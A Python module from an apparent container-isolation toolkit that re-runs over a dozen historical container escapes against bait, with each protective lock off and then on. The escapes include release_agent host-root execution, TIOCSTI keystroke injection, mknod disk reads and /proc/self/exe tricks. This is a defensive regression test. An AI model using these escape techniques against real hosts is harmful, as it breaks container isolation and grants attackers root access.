"""A museum of escapes: each one is tried for real, with its lock off and with its lock on.

Everything here got somebody out of a container once. An exhibit starts a container
of its own with one lock left off (`unlocked=`, see security.LOCKS), does what the
attacker did, and looks whether it worked; then it does the same with all locks on.

    museum.visit("double chroot")      one exhibit, both ways
    museum.ALL                         all of them

An exhibit touches only bait that the museum made: a file with a random word, a disk
that is a file, a process that sleeps. Where the real attack would write to the host
(sysrq, core_pattern) opening for writing is proof enough, and nothing is written.
The attacker's tool is the host's own Python, lent to the container read-only.
"""

import contextlib
import os
import secrets
import shutil
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

from labkit import ledger, spawner, state
from labkit import syscalls as sc
from labkit.child import in_child
from labkit.container import Container
from labkit.errors import LabError, NotFound

ALL = {}


@dataclass(frozen=True)
class Exhibit:
    """One escape: what it does, the locks that hold it, and how to try it."""

    name: str
    locks: tuple
    story: str
    attempt: object  # (unlocked) -> what the attacker got, "" for nothing


@dataclass(frozen=True)
class Visit:
    """What an attacker got: with the locks left off, and with all on."""

    exhibit: Exhibit
    off: str
    on: str

    def __repr__(self):
        lines = [f"{self.exhibit.name}: {self.exhibit.story}"]
        for word, got in ((f"without {' and '.join(self.exhibit.locks)}", self.off), ("all locks on", self.on)):
            lines.append(f"  {word + ':':36} {'ESCAPES, ' + got if got else 'holds'}")
        return "\n".join(lines)


def exhibit(name, *locks):
    """Make a function (unlocked) -> text into an exhibit; its docstring is the story."""

    def hang(attempt):
        ALL[name] = Exhibit(name, locks, attempt.__doc__.strip(), attempt)
        return attempt

    return hang


def visit(name):
    """Try one escape with its locks off and then with all on; return the Visit."""
    if name not in ALL:
        raise NotFound(f"the museum has no {name!r}", "it has: " + ", ".join(ALL))
    one = ALL[name]
    return Visit(one, one.attempt(one.locks), one.attempt(()))


# ---- the attacker's things, and the bait ----

PYTHON = ("/usr/bin/python3", "-SEc")
LENT = tuple(f"{folder}:{folder}:ro" for folder in ("/usr", "/lib", "/lib64") if os.path.exists(folder))


@contextlib.contextmanager
def bait():
    """Make a folder on the host with a file `secret` in it; yield (folder, the secret)."""
    folder = tempfile.mkdtemp(prefix=f"{state.label()}-bait-", dir="/var/tmp")
    with ledger.made("folder", path=folder):
        word = secrets.token_hex(8)
        Path(folder, "secret").write_text(word)
        yield Path(folder), word


def _sh(script, unlocked, **words):
    return _printed(["sh", "-c", script], unlocked, **words)


def _python(code, unlocked, *arguments, volumes=(), **words):
    return _printed([*PYTHON, code, *map(str, arguments)], unlocked, volumes=[*LENT, *volumes], **words)


def _printed(command, unlocked, **words):
    with Container("busybox", command, unlocked=unlocked, **words).start() as box:
        box.wait(30)
        return box.logs()


def _alone(function, *arguments):
    """Call it in a child that clones containers itself: they inherit what the child has."""

    def work():
        spawner._current = (os.getpid(), spawner.Here())
        return function(*arguments)

    return in_child(work)


# ---- the exhibits ----


@exhibit("double chroot", "pivot_root")
def _double_chroot(unlocked):
    """A process keeps its working directory while it moves its root below it; `..` then never meets the root."""
    code = (
        "import os, sys; os.makedirs('/x', exist_ok=True); os.chroot('/x')\n"
        "for _ in range(64): os.chdir('..')\n"
        "os.chroot('.'); print(open(sys.argv[1]).read())"
    )
    with bait() as (folder, word):
        return "read a file of the host" * (word in _python(code, unlocked, folder / "secret"))


@exhibit("sysrq and core_pattern", "read_only")
def _kernel_files(unlocked):
    """Most of /proc/sys is the host's: core_pattern names a program that the host runs as root."""
    script = "for f in /proc/sysrq-trigger /proc/sys/kernel/core_pattern; do (: >>$f) 2>/dev/null && echo opened; done"
    opened = _sh(script, unlocked).count("opened")
    return "files that command the host's kernel are open for writing" * bool(opened)


@exhibit("release_agent", "capabilities")
def _release_agent(unlocked):
    """A v1 hierarchy names a program which the kernel starts on the host, as root, when a cgroup empties."""
    with bait() as (folder, word), ledger.made("hierarchy", name=f"museum-{word}"):
        return _alone(_with_hierarchy, unlocked, folder, word)


def _with_hierarchy(unlocked, folder, word):
    agent, proof = folder / "agent", folder / "proof"
    agent.write_text(f"#!/bin/sh\necho {word} > {proof}\n")
    agent.chmod(0o755)
    _mount_hierarchy(f"museum-{word}")
    script = (
        f"mkdir /c && mount -t cgroup -o none,name=museum-{word} none /c && mkdir /c/x && echo 1 > /c/x/notify_on_release"
        f" && echo {agent} > /c/release_agent && sh -c 'echo $$ > /c/x/cgroup.procs'"
    )
    _sh(script, unlocked)
    deadline = time.monotonic() + 2
    while unlocked and not proof.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    return "the host ran the attacker's program as root" * proof.exists()


def _mount_hierarchy(name):
    """Mount a v1 hierarchy without controllers, in a mount namespace of this process's own; return where."""
    sc.unshare(sc.CLONE_NEWNS)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
    place = str(state.run_dir("museum"))
    sc.mount("none", place, "cgroup", 0, f"none,name={name}")
    return place


def remove_hierarchy(name):
    """End a named hierarchy: it lives as long as it has a folder or a mount. The ledger's kind `hierarchy`."""

    def work():
        place = _mount_hierarchy(name)
        for folder in filter(Path.is_dir, Path(place).iterdir()):
            folder.rmdir()
        sc.umount2(place)

    # A removed folder is dead a moment later, and the hierarchy goes at the next unmount after that.
    for wait in (0, 0.3, 0.5, 1, 2):
        deadline = time.monotonic() + wait
        while f"name={name}:" in Path("/proc/self/cgroup").read_text():
            if time.monotonic() > deadline:
                in_child(work)
                break
            time.sleep(0.01)
        else:
            return
    raise LabError(f"the cgroup hierarchy {name} does not go", f"grep -l {name} /proc/*/cgroup")


@exhibit("mknod of the disk", "nodev", "devices")
def _mknod(unlocked):
    """A device node is only a kind and two numbers; who may make and open one reads the disk past every permission."""
    from labkit.drivers import loop

    with bait() as (folder, word):
        disk = folder / "disk"
        disk.write_bytes(word.encode().ljust(1 << 20, b"\0"))
        with loop.attached(disk) as device:
            number = os.stat(device).st_rdev
            script = f"mknod /disk b {os.major(number)} {os.minor(number)} && head -c 16 /disk"
            return "read the disk" * (word in _sh(script, unlocked))


@exhibit("a mount that leaks", "private", "pivot_root")
def _propagation(unlocked):
    """Most hosts share their mounts: what is mounted in a copy of the mount table shows up in the other."""
    return _alone(_in_shared_namespace, unlocked)


def _in_shared_namespace(unlocked):
    from labkit import proc

    sc.unshare(sc.CLONE_NEWNS)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_PRIVATE)
    sc.mount(None, "/", None, sc.MS_REC | sc.MS_SHARED)
    before = {mount.id for mount in proc.mounts()}
    with Container("busybox", ["sleep", "30"], unlocked=unlocked).start():
        leaked = [mount.target for mount in proc.mounts() if mount.id not in before]
        for target in reversed(leaked):
            sc.umount2(target, sc.MNT_DETACH)
    return f"{len(leaked)} mounts of the container in the host's table" * bool(leaked)


@exhibit("TIOCSTI", "session")
def _tiocsti(unlocked):
    """A process may push letters into its own terminal, as if typed: the shell outside reads and obeys them."""
    return _alone(_on_a_terminal, unlocked)


def _on_a_terminal(unlocked):
    import fcntl
    import select
    import signal
    import termios

    with contextlib.suppress(FileNotFoundError):
        if Path("/proc/sys/dev/tty/legacy_tiocsti").read_text().strip() == "0":
            return "" if not unlocked else closed_by_the_kernel
    signal.signal(signal.SIGHUP, signal.SIG_IGN)  # comes when the terminal is closed
    os.setsid()
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    code = "import fcntl, termios\nfor c in b'echo owned\\n': fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))"
    with Container("busybox", [*PYTHON, code], volumes=LENT, unlocked=unlocked).start((slave, slave, slave)) as box:
        box.wait(30)
    typed = select.select([slave], [], [], 0)[0] and os.read(slave, 100)
    os.close(master)
    return "typed a command into the host's shell" * (typed == b"echo owned\n")


closed_by_the_kernel = "this kernel closes it itself (dev.tty.legacy_tiocsti is 0)"


@exhibit("an open folder handed down", "close_fds")
def _inherited(unlocked):
    """An open file stays open over fork, namespaces, chroot and exec; a folder's fd leads to all below it."""

    def work(folder):
        fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.dup2(fd, 99)
        return _sh(f"cat /proc/self/fd/99{folder}/secret", unlocked)

    with bait() as (folder, word):
        return "read a file of the host" * (word in _alone(work, folder))


@exhibit("overwriting /proc/self/exe", "exe")
def _exe(unlocked):
    """A script whose interpreter is /proc/self/exe is run by the program that starts the container: the host's own."""
    import sys

    base = Path(sys.base_prefix)
    code = "#!/proc/self/exe -SE\nimport os\nprint(os.stat('/proc/self/exe').st_ino, os.open('/proc/self/exe', os.O_RDONLY))\n"
    with bait() as (folder, _):
        # A copy of Python plays the host's: nothing else may be written to by anybody.
        program = folder / "python"
        shutil.copy(os.path.realpath(sys.executable), program)
        (folder / "attack").write_text(code)
        (folder / "attack").chmod(0o755)
        lent = [*LENT, f"{folder}/attack:/attack:ro", *([f"{base}:{base}:ro"] if not str(base).startswith("/usr") else [])]
        starter = (
            "from labkit.container import Container\n"
            f"with Container('busybox', '/attack', volumes={lent!r}, env={{'PYTHONHOME': {str(base)!r}}},\n"
            f"               unlocked={tuple(unlocked)!r}).start() as box: box.wait(30); print(box.logs())"
        )
        text = _as_program(program, base, starter)
        reached = text.split()[:1] == [str(program.stat().st_ino)]
        return "holds the file of the host's own program" * reached


def _as_program(program, base, code):
    import subprocess

    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    environment = os.environ | {"PYTHONHOME": str(base), "PYTHONPATH": here}
    done = subprocess.run([str(program), "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    return done.stdout


@exhibit("a setuid program", "no_new_privs")
def _setuid(unlocked):
    """A program with the setuid bit runs with its owner's power, whoever starts it."""
    with bait() as (folder, _):
        folder.chmod(0o755)
        program = folder / "become"
        shutil.copy(os.path.realpath("/usr/bin/python3"), program)
        program.chmod(0o4755)
        code = "import os; print('euid', os.geteuid())"
        command = ["/bait/become", "-SEc", code]
        text = _printed(command, unlocked, volumes=[*LENT, f"{folder}:/bait:ro"], user="1000")
        return "user 1000 became root" * ("euid 0" in text)


@exhibit("reaching into another process", "pid_namespace")
def _across(unlocked):
    """Two processes of the same user may look into each other: memory, environment, and by /proc/PID/root the root."""
    word = secrets.token_hex(8)
    with Container("busybox", ["sleep", "60"], env=[f"SECRET={word}"]).start() as other:
        (other_pid,) = [process.pid for process in other.top()]
        got = _sh(f"cat /proc/{other_pid}/environ", unlocked)
    return "read another container's environment" * (word in got)


@exhibit("raising one's own limit", "cgroup_read_only", "cgroup_namespace")
def _own_limit(unlocked):
    """A limit is a number in a file; a container that can write the file has none."""
    script = (
        "v1=/sys/fs/cgroup/memory$(grep -E '[:,]memory[:,]' /proc/self/cgroup | cut -d: -f3)/memory\n"
        "v2=/sys/fs/cgroup$(grep ^0:: /proc/self/cgroup | cut -d: -f3)/memory.max\n"
        "for f in $v1.memsw.limit_in_bytes $v1.limit_in_bytes $v2; do [ -e $f ] && echo 1073741824 > $f && cat $f; done 2>/dev/null"
    )
    return "gave itself 1 GB in place of 32 MB" * ("1073741824" in _sh(script, unlocked, memory="32m"))


@exhibit("the kernel's keyring", "keyring", "seccomp")
def _keyring(unlocked):
    """Keys are kept by the kernel and belong to a session, and no namespace wraps them."""
    return _alone(_with_a_key, unlocked)


_KEYS = """
import ctypes, platform
call = ctypes.CDLL(None, use_errno=True).syscall
add_key, keyctl = {"x86_64": (248, 250)}.get(platform.machine(), (217, 219))
SESSION, JOIN, READ, SEARCH = -3, 1, 11, 10
"""
_READ_KEY = """
key = call(keyctl, SEARCH, SESSION, b"user", b"bait", 0)
text = ctypes.create_string_buffer(64)
print(call(keyctl, READ, key, text, 64) > 0 and text.value.decode())
"""


def _with_a_key(unlocked):
    word = secrets.token_hex(8)
    names = {}
    exec(_KEYS, names)  # noqa: S102 - the same lines that the attacker runs
    names["call"](names["keyctl"], names["JOIN"], None)  # a session of the museum's own, gone with this process
    names["call"](names["add_key"], b"user", b"bait", word.encode(), len(word), names["SESSION"])
    return "read a key of the host" * (word in _python(_KEYS + _READ_KEY, unlocked))


@exhibit("a link where a mount should go", "in_root")
def _link(unlocked):
    """A volume holds a link to a place on the host; the next volume is to be mounted behind it."""
    with bait() as (folder, _):
        (folder / "shared").mkdir()
        (folder / "host").mkdir()
        (folder / "shared" / "link").symlink_to(folder / "host")
        volumes = [f"{folder}/shared:/data", f"{folder}/shared:/data/link/made"]
        try:
            _sh("true", unlocked, volumes=volumes)
        except LabError:
            pass  # with the lock on it is refused, and says so
        return "labkit itself made a folder on the host, outside the root" * (folder / "host" / "made").exists()
